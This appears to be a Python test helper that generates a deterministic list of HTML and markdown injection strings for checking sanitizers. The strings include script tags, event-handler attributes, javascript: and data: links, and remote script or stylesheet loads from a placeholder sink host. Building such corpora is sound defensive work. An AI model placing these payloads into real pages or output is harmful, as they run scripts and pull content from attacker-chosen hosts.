"""Texts that want to run a script or to load something, made of parts; `{sink}` is where they would call."""

from __future__ import annotations

import itertools
import random

_TAGS = (
    "<img src={sink}/a onerror=ran()>",
    "<script>ran()</script>",
    "<script src={sink}/b></script>",
    "<svg onload=ran()><image href={sink}/c /></svg>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<a href='javascript:ran()'>x</a>",
    "<style>@import '{sink}/d';</style>",
    "<link rel=stylesheet href={sink}/e>",
    "<details open ontoggle=ran()>x</details>",
    "<math><mtext><table><mglyph><style><img src onerror=ran()>",
    "<form action={sink}/f><button autofocus onfocus=ran()>x</button></form>",
    "<template><img src={sink}/g></template>",
    "<object data={sink}/h></object>",
    "<base href={sink}/>",
    "<meta http-equiv=refresh content='0;url={sink}/i'>",
    "<video poster={sink}/j autoplay onloadstart=ran()></video>",
)
_MARKS = (
    "![x]({sink}/k)",
    "![x](data:image/svg+xml,<svg onload=ran()>)",
    "[x](javascript:ran())",
    "[x](JaVaScRiPt:ran())",
    "[x](java\tscript:ran())",
    "[x](&#106;avascript:ran())",
    "[x](data:text/html,<script>ran()</script>)",
    "[x](vbscript:ran)",
    "[![x]({sink}/l)]({sink}/m)",
    "<{sink}/n>",
    "[1]: {sink}/o",
    "[x]( javascript:ran())",
    "[x](//sink.example/p)",
    "[x](blob:ran)",
    "[x](https://user:pass@host/q)",
)
_WRAPS = (
    "{}",
    "**{}**",
    "`{}`",
    "- {}",
    "1. {}",
    "| a | b |\n| --- | --- |\n| {} | c |",
    "```\n{}\n```",
    "# {}",
    "> {}",
    "[1] {} [2]",
)
_BREAKS = (
    "",
    "\0",
    "\u202e",
    "\u2028",
    "`",
    "**",
    "[",
    "](",
    "|",
    "<!--",
    "-->",
    "]]>",
    "${{ran()}}",
    "{{{{ran()}}}}",
    "\\",
    "'\"",
)


def hostile(sink: str, count: int = 200) -> list[str]:
    """So many different texts, the same every time."""
    chosen = random.Random(18)
    made = []
    parts = itertools.cycle((*_TAGS, *_MARKS))
    for _ in range(count):
        core = next(parts).replace("{sink}", sink)
        wrapped = chosen.choice(_WRAPS).replace("{}", core)
        made.append(chosen.choice(_BREAKS) + wrapped + chosen.choice(_BREAKS) + (core if chosen.random() < 0.3 else ""))
    return made
